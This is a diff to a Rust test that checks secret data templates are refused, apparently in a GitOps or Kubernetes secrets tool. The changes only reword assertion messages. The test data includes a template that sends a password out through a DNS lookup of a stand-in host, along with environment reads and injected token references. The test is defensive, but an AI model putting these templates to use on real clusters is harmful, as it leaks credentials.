@@ -254,7 +254,7 @@ fn data_templates_compute_from_this_secret_s_own_keys_alone() {
     for (text, what) in [
         (
             "{{ getHostByName (printf \"%s.elsewhere.example\" .password) }}",
-            "`getHostByName` is not one of the functions",
+            "`getHostByName` is not one of the pure functions",
         ),
         ("{{ env \"HOME\" }}", "`env` is not"),
         ("{{ range . }}{{ . }}{{ end }}", "`range` is not"),
@@ -272,7 +272,7 @@ fn data_templates_compute_from_this_secret_s_own_keys_alone() {
         assert_refused(&repository, &data(text), what);
     }
     let escaped = with("metadata:", "  annotations: { x: \"\\x24{cluster_admin_token}\" }");
-    assert_refused(&repository, &escaped, "`/metadata/annotations/x` holds `${`");
+    assert_refused(&repository, &escaped, "`/metadata/annotations/x` contains `${`");
     for (place, text) in
         [("labels", "{{ .password }}"), ("annotations", "<path:billing/prod#stripe>")]
     {
@@ -280,7 +280,7 @@ fn data_templates_compute_from_this_secret_s_own_keys_alone() {
         assert_refused(
             &repository,
             &with("metadata:", &more),
-            &format!("`/metadata/{place}/x` holds"),
+            &format!("`/metadata/{place}/x` contains"),
         );
     }
     for comment in [
@@ -292,7 +292,7 @@ fn data_templates_compute_from_this_secret_s_own_keys_alone() {
         assert_refused(
             &repository,
             &with("metadata:", &more),
-            "a comment by which Flux's image automation",
+            "a comment that makes Flux's image automation",
         );
     }
     for text in [
